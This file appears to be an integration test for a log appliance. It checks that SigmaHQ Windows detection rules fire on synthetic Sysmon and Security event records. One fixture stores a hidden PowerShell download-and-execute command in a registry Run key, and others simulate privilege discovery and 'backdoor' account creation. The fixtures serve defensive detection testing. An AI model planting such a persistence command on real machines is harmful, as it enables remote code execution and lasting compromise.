// The Windows-event normalizer of docs/normalizers-and-feeds.md, taken from the page itself, makes
// SigmaHQ's own Windows rules match `evtx_dump -o json` output: the export (pretty-printed objects
// after "Record N" lines) goes to /api/v1/ingest through a token applying the normalizer, a feed of
// four SigmaHQ rules (Sysmon process creation, network connection and registry; a Security log rule)
// translates through the same normalizer, and the alert engine fires each rule on its event only.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { ADMIN_PASSWORD, signIn, startTestAppliance, type TestAppliance } from '../support/appliance.ts';
import { createFractal, expectOk } from '../support/api.ts';
import { waitForLogs } from '../support/logs.ts';
import { sharedData } from '../support/shared-data.ts';
import { documentedWindowsNormalizer } from '../support/windows-normalizer.ts';
import { WAIT_MS } from '../support/wait.ts';

const work = mkdtempSync(path.join(tmpdir(), 'svc-evtx-'));
let app: TestAppliance;
before(async () => {
  execFileSync('tar', ['xzf', sharedData('sigma-rules.tar.gz'), '-C', work]);
  app = await startTestAppliance();
});
after(async () => {
  await app?.dispose();
  rmSync(work, { recursive: true, force: true });
});

const RULES = [
  'rules/windows/process_creation/proc_creation_win_whoami_priv_discovery.yml',
  'rules/windows/network_connection/net_connection_win_certutil_initiated_connection.yml',
  'rules/windows/registry/registry_set/registry_set_powershell_in_run_keys.yml',
  'rules/windows/builtin/security/win_security_user_creation.yml',
];

/** One event as evtx_dump writes it: System (attributes under #attributes) and EventData. */
function evtxEvent(recordId: number, system: { provider: string; eventId: number; channel: string; time: string }, data: Record<string, unknown>) {
  return {
    Event: {
      '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
      System: {
        Provider: { '#attributes': { Name: system.provider, Guid: '5770385F-C22A-43E0-BF4C-06F5698FFBD9' } },
        EventID: system.eventId,
        Version: 5,
        Level: 4,
        Task: 1,
        Opcode: 0,
        Keywords: '0x8000000000000000',
        TimeCreated: { '#attributes': { SystemTime: system.time } },
        EventRecordID: recordId,
        Correlation: null,
        Execution: { '#attributes': { ProcessID: 1880, ThreadID: 2012 } },
        Channel: system.channel,
        Computer: 'IEWIN7',
        Security: { '#attributes': { UserID: 'S-1-5-18' } },
      },
      EventData: data,
    },
  };
}

test("SigmaHQ's Windows rules match evtx_dump output through the documented normalizer", async () => {
  const admin = await signIn(app.url, 'admin', ADMIN_PASSWORD);
  const normalizer = expectOk(await admin.post('/api/v1/normalizers', documentedWindowsNormalizer()), 201);
  const f = await createFractal(admin, 'windows');
  const token = expectOk(await admin.post(`/api/v1/fractals/${f.id}/ingest-tokens`, { name: 'evtx', normalizer_id: normalizer.id }), 201).token;

  const repo = path.join(work, 'windows-rules');
  for (const r of RULES) {
    mkdirSync(path.dirname(path.join(repo, r)), { recursive: true });
    cpSync(path.join(work, 'sigma', r), path.join(repo, r));
  }
  const feed = expectOk(await admin.post('/api/v1/feeds', { fractal_id: f.id, name: 'sigmahq windows', repo_url: repo, normalizer_id: normalizer.id, enabled: false, sync_schedule: 'never' }), 201);
  expectOk(await admin.put(`/api/v1/feeds/${feed.id}`, { enabled: true }));
  assert.equal(expectOk(await admin.post(`/api/v1/feeds/${feed.id}/sync`)).imported, RULES.length);
  const alerts = expectOk<any[]>(await admin.get(`/api/v1/feeds/${feed.id}/alerts`));

  const now = new Date(Date.now() - 60_000).toISOString();
  const sysmon = (id: number, eventId: number) => ({ provider: 'Microsoft-Windows-Sysmon', eventId, channel: 'Microsoft-Windows-Sysmon/Operational', time: now, id });
  const events = [
    evtxEvent(1, sysmon(1, 1), { RuleName: '-', UtcTime: now, ProcessId: 3232, Image: 'C:\\Windows\\System32\\whoami.exe', OriginalFileName: 'whoami.exe', CommandLine: 'whoami /priv', CurrentDirectory: 'C:\\Users\\IEUser\\', User: 'IEWIN7\\IEUser', IntegrityLevel: 'Medium', ParentImage: 'C:\\Windows\\System32\\cmd.exe', ParentCommandLine: 'cmd.exe' }),
    evtxEvent(2, sysmon(2, 3), { RuleName: '-', UtcTime: now, ProcessId: 4100, Image: 'C:\\Windows\\System32\\certutil.exe', User: 'IEWIN7\\IEUser', Protocol: 'tcp', Initiated: true, SourceIp: '10.0.2.15', SourcePort: 49712, DestinationIp: '203.0.113.9', DestinationPort: 443 }),
    evtxEvent(3, sysmon(3, 13), { RuleName: 'T1060,RunKey', EventType: 'SetValue', UtcTime: now, ProcessId: 5120, Image: 'C:\\Windows\\regedit.exe', TargetObject: 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater', Details: 'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://x\')"' }),
    evtxEvent(4, { provider: 'Microsoft-Windows-Security-Auditing', eventId: 4720, channel: 'Security', time: now }, { TargetUserName: 'backdoor', TargetDomainName: 'IEWIN7', SubjectUserName: 'IEUser' }),
    // Near misses: a process creation of another program, and a network connection not initiated by certutil.
    evtxEvent(5, sysmon(5, 1), { Image: 'C:\\Windows\\System32\\notepad.exe', OriginalFileName: 'notepad.exe', CommandLine: 'notepad /priv' }),
    evtxEvent(6, sysmon(6, 3), { Image: 'C:\\Program Files\\Browser\\browser.exe', Initiated: true, DestinationPort: 443 }),
  ];
  const exported = events.map((e, i) => `Record ${i + 1}\n${JSON.stringify(e, null, 2)}`).join('\n') + '\n';
  const r = await fetch(`${app.url}/api/v1/ingest`, { method: 'POST', headers: { authorization: `Bearer ${token}` }, body: exported });
  const answer = await r.json();
  assert.equal(answer.accepted, events.length, JSON.stringify(answer));
  const stored = await waitForLogs(app, f.id, events.length);
  const whoami = stored.find((l) => l.fields.Image === 'C:\\Windows\\System32\\whoami.exe')!;
  assert.equal(whoami.fields.sigma_category, 'process_creation');
  assert.equal(whoami.fields.Provider_Name, 'Microsoft-Windows-Sysmon');
  assert.equal(whoami.timestamp.slice(0, 19), now.slice(0, 19).replace('T', ' '), 'the time comes from SystemTime');

  const arrived = Date.now();
  for (const deadline = Date.now() + WAIT_MS; ; ) {
    await app.alertEngine.tick();
    if (alerts.every((a) => (app.context.alerts.get(a.id)!.cursor ?? '') >= new Date(arrived).toISOString())) break;
    assert.ok(Date.now() < deadline, 'the alerts were not evaluated past the export');
    await new Promise((res) => setTimeout(res, 250));
  }
  const firedOn = (sourcePath: string) => {
    const a = alerts.find((x) => x.source_path === sourcePath)!;
    const records = new Set<number>();
    for (const e of app.context.alertExecutions.recent([a.id], new Date(0).toISOString(), 100)) {
      for (const row of app.context.alertExecutions.payload(e.id)?.results ?? []) records.add(Number(row.EventRecordID));
    }
    return [...records].sort();
  };
  assert.deepEqual(firedOn(RULES[0]!), [1], 'whoami /priv');
  assert.deepEqual(firedOn(RULES[1]!), [2], 'certutil connecting out');
  assert.deepEqual(firedOn(RULES[2]!), [3], 'PowerShell in a Run key');
  assert.deepEqual(firedOn(RULES[3]!), [4], 'a user account created');
});
